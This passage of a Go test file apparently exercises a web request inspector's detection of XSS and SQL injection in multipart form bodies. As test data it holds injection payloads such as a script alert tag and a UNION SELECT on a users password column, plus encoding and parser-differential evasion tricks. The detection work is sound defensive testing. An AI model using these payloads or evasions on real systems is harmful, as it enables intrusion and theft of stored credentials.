		{"empty filename, content", `filename=""`, "<script>alert(1)</script>", KindXSS, "form.f"},
	}
	d := mustNew(t, Options{})
	var sc Scratch
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := d.Inspect(&sc, multipartFile(tc.disp, "text/plain", tc.content), nil)
			if r.Kind != tc.want || string(r.Location) != tc.location {
				t.Errorf("%v (%s) at %q; want %v at %q", r.Kind, r.Rule, r.Location, tc.want, tc.location)
			}
			if r.Truncated {
				t.Errorf("truncated")
			}
		})
	}
}

func TestNextParam(t *testing.T) {
	tests := []struct {
		in, k, v, rest string
		quoted         bool
	}{
		{` name="f"; filename="a.txt"`, "name", "f", ` filename="a.txt"`, true},
		{` filename="a;b.txt"; x=1`, "filename", "a;b.txt", ` x=1`, true},
		{` filename="a\";b"`, "filename", `a\";b`, "", true},
		{` filename=a.txt ; x=1`, "filename", "a.txt", ` x=1`, false},
		{` flag; x=1`, "flag", "", ` x=1`, false},
		{` filename="open`, "filename", "open", "", true},
	}
	for _, tc := range tests {
		k, v, q, rest := nextParam([]byte(tc.in))
		if string(k) != tc.k || string(v) != tc.v || q != tc.quoted || string(rest) != tc.rest {
			t.Errorf("nextParam(%q) = %q, %q, %v, %q; want %q, %q, %v, %q", tc.in, k, v, q, rest, tc.k, tc.v, tc.quoted, tc.rest)
		}
	}
}

// TestMultipartPartsAfterClose: a part after the closing delimiter, which
// PHP reads and other readers do not, makes the body one tier 1 cannot
// inspect whole (Truncated: refused in block mode).
func TestMultipartPartsAfterClose(t *testing.T) {
	d := mustNew(t, Options{})
	var sc Scratch
	for _, tc := range []struct {
		name, body string
		truncated  bool
	}{
		{"epilogue text", "--BB\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--BB--\r\nthe end\r\n", false},
		{"a part after the close", "--BB\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--BB--\r\n--BB\r\n" +
			"Content-Disposition: form-data; name=\"f\"\r\n\r\nhello\r\n--BB--\r\n", true},
		{"lf body, a part after the close", "--BB\nContent-Disposition: form-data; name=\"a\"\n\nx\n--BB--\n--BB\n" +
			"Content-Disposition: form-data; name=\"f\"\n\nhello\n--BB--\n", true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := d.Inspect(&sc, bodyRequest("multipart/form-data; boundary=BB", tc.body), nil)
			if r.Truncated != tc.truncated || r.Detected() {
				t.Errorf("truncated %v, detected %v; want truncated %v", r.Truncated, r.Kind, tc.truncated)
			}
		})
	}
}

// TestMultipartTransferEncodings: a part's Content-Transfer-Encoding is
// undone before inspection (Go's mime/multipart decodes quoted-printable
// by itself); one tier 1 does not read leaves the request uninspected.
func TestMultipartTransferEncodings(t *testing.T) {
	d := mustNew(t, Options{})
	var sc Scratch
	part := func(cte, content string) string {
		return "--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\nContent-Transfer-Encoding: " + cte + "\r\n\r\n" + content + "\r\n--XyZ--\r\n"
	}
	for _, tc := range []struct {
		name, body string
		want       Kind
		truncated  bool
	}{
		{"quoted-printable", part("quoted-printable", "=31=27=20=6F=72=20=27=31=27=3D=27=31"), KindSQLi, false},
		{"quoted-printable soft breaks", part("Quoted-Printable", "<scr=\r\nipt>alert(1)</scr=\r\nipt>"), KindXSS, false},
		{"base64 over lines", part("base64", "PHNjcmlwdD5h\r\nbGVydCgxKTwvc2NyaXB0Pg=="), KindXSS, false},
		{"quoted-printable benign", part("quoted-printable", "Caf=C3=A9 au lait, D=27Angelo"), KindNone, false},
		{"8bit", part("8bit", "plain text"), KindNone, false},
		{"unknown encoding", part("x-uuencode", "begin 644 a"), KindNone, true},
		// Go reads the first of two: quoted-printable.
		{"two encodings", part("quoted-printable\r\nContent-Transfer-Encoding: 7bit", "=31=27=20=6F=72=20=27=31=27=3D=27=31"), KindNone, true},
		{"one encoding twice", part("quoted-printable\r\nContent-Transfer-Encoding: Quoted-Printable", "=31=27=20=6F=72=20=27=31=27=3D=27=31"), KindSQLi, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := d.Inspect(&sc, bodyRequest("multipart/form-data; boundary=XyZ", tc.body), nil)
			if r.Kind != tc.want || r.Truncated != tc.truncated {
				t.Errorf("%v truncated %v; want %v truncated %v", r.Kind, r.Truncated, tc.want, tc.truncated)
			}
			if tc.want != KindNone && string(r.Location) != "form.q" {
				t.Errorf("location %q, want form.q", r.Location)
			}
		})
	}
}

// TestMultipartFirstContentType: a part's charset is its first
// Content-Type's, as Go's mime/multipart reads it.
func TestMultipartFirstContentType(t *testing.T) {
	d := mustNew(t, Options{})
	var sc Scratch
	body := "--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\nContent-Type: text/plain; charset=utf-16le\r\n" +
		"Content-Type: text/plain; charset=utf-8\r\n\r\n" + encodeUTF(utf16LE, false, "1' UNION SELECT password FROM users--") + "\r\n--XyZ--\r\n"
	if r := d.Inspect(&sc, bodyRequest("multipart/form-data; boundary=XyZ", body), nil); r.Kind != KindSQLi {
		t.Errorf("%v; want sqli in the part read as UTF-16LE", r.Kind)
	}
}
